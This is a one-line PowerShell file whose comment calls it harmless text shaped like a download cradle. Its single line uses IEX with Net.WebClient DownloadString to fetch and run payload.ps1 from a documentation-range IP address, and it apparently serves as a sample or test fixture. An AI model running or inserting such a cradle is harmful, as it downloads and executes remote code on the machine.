# download_cradle.ps1 - harmless text shaped like a PowerShell download cradle (nothing runs it).
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/payload.ps1')
